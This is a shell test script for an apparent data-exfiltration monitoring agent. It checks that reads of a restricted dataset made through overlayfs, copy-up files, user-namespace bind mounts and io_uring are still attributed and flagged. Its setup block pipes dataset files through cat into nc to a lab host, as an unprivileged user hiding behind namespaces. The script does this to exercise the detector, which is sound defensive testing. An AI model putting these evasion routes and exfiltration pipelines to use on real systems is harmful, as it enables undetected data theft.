#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# test_evasion_fs.sh - reads that hide behind other file systems (overlayfs, bind mounts in a user namespace) still count and taint.
set -u
. "$(dirname "$0")/../lib/lib.sh"
need_root evasion_fs
mount_kernel_fs

EXT=dt-evfs-$$
VX=dtv$$
T=$(mktemp -d /var/tmp/dt-evfs.XXXXXX)
PIDS_TO_KILL=""
cleanup() {
	for p in $PIDS_TO_KILL; do kill "$p" 2>/dev/null; done
	[ -n "${AGENT_PID:-}" ] && kill -KILL "$AGENT_PID" 2>/dev/null
	teardown_host "$EXT" "$VX"
	lib_cleanup
	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
}
trap cleanup EXIT

setup_host "$EXT" "$VX" 10.199.21.1 10.199.21.2 || exit 1

chmod 755 "$T"
mkdir -p "$T/ds" "$T/up" "$T/work" "$T/ovl" "$T/bnd" "$T/run"
head -c 100000 /dev/urandom >"$T/ds/a.bin"
head -c 20000 /dev/urandom >"$T/ds/b.bin"
head -c 7000 /dev/urandom >"$T/ds/c.bin"
chmod -R a+rX "$T/ds"
# nobody may write b.bin (through the overlay, which copies it up first).
chown nobody:nogroup "$T/ds/b.bin"
cp "$TOP/$BUILD/tests/progs/uring_read" "$T/uring_read"
# The unprivileged user owns the overlay's upper layer, its mount points and its pid files.
chown nobody:nogroup "$T/up" "$T/work" "$T/ovl" "$T/bnd" "$T/run"
cat >"$T/inv.json" <<EOF
{"datasets": [
  {"id": "faces", "classification": "restricted", "paths": ["$T/ds"]}
]}
EOF

EV=$T/events.jsonl
FI=$T/findings.jsonl
finding() { # kind pid field
	$EVQ "$FI" last "$3" --where finding_info.types.0="$1" --where evidences.0.process.pid="$2"
}
event_of() { # pid field
	$EVQ "$EV" values "$2" --where actor.process.pid="$1" | paste -sd, -
}
pid_of() { # name: what the user namespace wrote into $T/run
	cat "$T/run/$1.pid"
}

agent_start "$T" "$T/inv.json" --flush-ms 200 || exit 1

# Moved into the dataset after the start (a rename opens nothing): first opened through the overlay.
head -c 4444 /dev/urandom >"$T/late.bin"
chmod 644 "$T/late.bin"
mv "$T/late.bin" "$T/ds/late.bin" &
MV_PID=$!
wait $MV_PID

listen "$EXT" tcp 10.199.21.2 9201 "$T/recv1" || exit 1
listen "$EXT" tcp 10.199.21.2 9202 "$T/recv2" || exit 1
listen "$EXT" tcp 10.199.21.2 9203 "$T/recv3" || exit 1
listen "$EXT" tcp 10.199.21.2 9205 "$T/recv5" || exit 1
# As nobody, in a user and mount namespace of its own: an overlay whose lower layer is the
# dataset, a read through it sent off; an append (copy-up), then the upper copy sent off; a
# bind mount of the dataset, read and sent off. Each process says its pid before it execs.
R=$T/run
setpriv --reuid=nobody --regid=nogroup --clear-groups unshare -Urm /bin/sh -c "
set -e
mount -t overlay overlay -o lowerdir=$T/ds,upperdir=$T/up,workdir=$T/work $T/ovl
stat -c %d $T/ovl/a.bin >$R/ovl.dev
sh -c 'echo \$\$ >$R/cat1.pid; exec /usr/bin/cat $T/ovl/a.bin' |
	sh -c 'echo \$\$ >$R/nc1.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9201'
sh -c 'echo \$\$ >$R/append.pid; echo appended >>$T/ovl/b.bin'
sh -c 'echo \$\$ >$R/cat2.pid; exec /usr/bin/cat $T/ovl/b.bin' |
	sh -c 'echo \$\$ >$R/nc2.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9202'
sh -c 'echo \$\$ >$R/cat5.pid; exec /usr/bin/cat $T/ovl/late.bin' |
	sh -c 'echo \$\$ >$R/nc5.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9205'
sh -c 'echo \$\$ >$R/uring.pid; exec $T/uring_read $T/ovl/c.bin' >$R/uring.out
mount --bind $T/ds $T/bnd
sh -c 'echo \$\$ >$R/cat3.pid; exec /usr/bin/cat $T/bnd/c.bin' |
	sh -c 'echo \$\$ >$R/nc3.pid; exec /usr/bin/nc -w 10 -N 10.199.21.2 9203'
" 2>"$T/userns.err" &
USERNS_PID=$!
wait $USERNS_PID
USERNS_RC=$?

# The upper copy, read directly (not through the overlay) by another process.
listen "$EXT" tcp 10.199.21.2 9204 "$T/recv4" || exit 1
/usr/bin/nc -w 10 -N 10.199.21.2 9204 <"$T/up/b.bin" &
NC4_PID=$!
wait $NC4_PID

sleep 0.5
agent_stop

test_agent_exits_cleanly() {
	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
	ASSERT_EQ "$USERNS_RC" 0 "the user namespace script ran: $(cat "$T/userns.err")"
	ASSERT_NEQ "$(cat "$T/run/ovl.dev")" "$(stat -c %d "$T/ds/a.bin")" \
		"the overlay file has its own device number"
}

test_overlay_read_is_a_dataset_read() {
	local cat1
	cat1=$(pid_of cat1)
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="$cat1")" 100000 "bytes read"
	ASSERT_EQ "$(event_of "$cat1" unmapped.dataset)" faces "dataset"
	ASSERT_EQ "$(event_of "$cat1" file.path)" "$T/ds/a.bin" "the dataset's own file"
	ASSERT_EQ "$(event_of "$cat1" actor.process.user.uid)" 65534 "read as nobody"
	ASSERT_EQ "$(event_of "$cat1" unmapped.access)" read "access"
}

test_overlay_read_exfiltration() {
	local nc1
	nc1=$(pid_of nc1)
	ASSERT_EQ "$(stat -c %s "$T/recv1")" 100000 "bytes received by the external host"
	ASSERT_EQ "$(finding exfiltration "$nc1" unmapped.bytes)" 100000 "finding bytes"
	ASSERT_EQ "$(finding exfiltration "$nc1" resources.0.uid)" faces "dataset"
	ASSERT_EQ "$(finding exfiltration "$nc1" evidences.0.dst_endpoint.port)" 9201 "dst port"
	ASSERT_EQ "$(finding exfiltration "$nc1" unmapped.via.hop)" pipe "taint came through a pipe"
}

test_copy_up_is_derived_not_tamper() {
	ASSERT_EQ "$(stat -c %s "$T/ds/b.bin")" 20000 "the lower dataset file is unchanged"
	ASSERT_EQ "$(stat -c %s "$T/up/b.bin")" 20009 "the upper copy has the append"
	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=dataset_tamper \
		--where evidences.0.file.path="$T/ds/b.bin")" 0 \
		"changing the copy is not tampering with the dataset"
	ASSERT_EQ "$($EVQ "$FI" values evidences.0.process.pid --where finding_info.types.0=dataset_tamper)" \
		"$MV_PID" "the one change to the dataset is the move into it"
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid="$(pid_of append)")" 0 \
		"the appender read nothing classified"
}

test_copy_up_reader_is_tainted() {
	local nc2
	nc2=$(pid_of nc2)
	ASSERT_EQ "$(stat -c %s "$T/recv2")" 20009 "bytes received by the external host"
	ASSERT_EQ "$(finding exfiltration "$nc2" unmapped.bytes)" 20009 "finding bytes"
	ASSERT_EQ "$(finding exfiltration "$nc2" resources.0.uid)" faces "dataset of the lower file"
	ASSERT_EQ "$(finding exfiltration "$nc2" evidences.0.dst_endpoint.port)" 9202 "dst port"
}

test_upper_copy_read_directly() {
	ASSERT_EQ "$(stat -c %s "$T/recv4")" 20009 "bytes received by the external host"
	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.bytes)" 20009 "finding bytes"
	ASSERT_EQ "$(finding exfiltration $NC4_PID resources.0.uid)" faces "dataset"
	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.via.hop)" read "tainted by reading the copy"
}

test_new_file_classified_through_overlay() {
	local cat5 nc5
	cat5=$(pid_of cat5)
	nc5=$(pid_of nc5)
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="$cat5")" 4444 "bytes read"
	ASSERT_EQ "$(event_of "$cat5" unmapped.dataset)" faces "dataset"
	ASSERT_EQ "$(event_of "$cat5" file.path)" "$T/ds/late.bin" "found below the dataset directory"
	ASSERT_EQ "$(stat -c %s "$T/recv5")" 4444 "bytes received by the external host"
	ASSERT_EQ "$(finding exfiltration "$nc5" unmapped.bytes)" 4444 "finding bytes"
}

test_io_uring_through_overlay() {
	local uring
	uring=$(pid_of uring)
	ASSERT_EQ "$(cat "$T/run/uring.out")" 7000 "workload read"
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="$uring" \
		--where unmapped.access=io_uring)" 7000 "io_uring bytes"
	ASSERT_EQ "$($EVQ "$EV" values file.path --where actor.process.pid="$uring" \
		--where unmapped.access=io_uring)" "$T/ds/c.bin" "the dataset's own file"
	ASSERT_EQ "$(event_of "$uring" unmapped.dataset)" faces "dataset"
}

test_bind_mount_in_user_namespace() {
	local cat3 nc3
	cat3=$(pid_of cat3)
	nc3=$(pid_of nc3)
	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid="$cat3")" 7000 "bytes read"
	ASSERT_EQ "$(event_of "$cat3" file.path)" "$T/ds/c.bin" "the dataset's own file"
	ASSERT_EQ "$(stat -c %s "$T/recv3")" 7000 "bytes received by the external host"
	ASSERT_EQ "$(finding exfiltration "$nc3" unmapped.bytes)" 7000 "finding bytes"
	ASSERT_EQ "$(finding exfiltration "$nc3" resources.0.uid)" faces "dataset"
}


# Every line the agent wrote in this suite is valid OCSF 1.8.0.
test_ocsf_lines_valid() {
	ASSERT_OCSF_DIR "$T" "$T"
}

run_tests evasion_fs
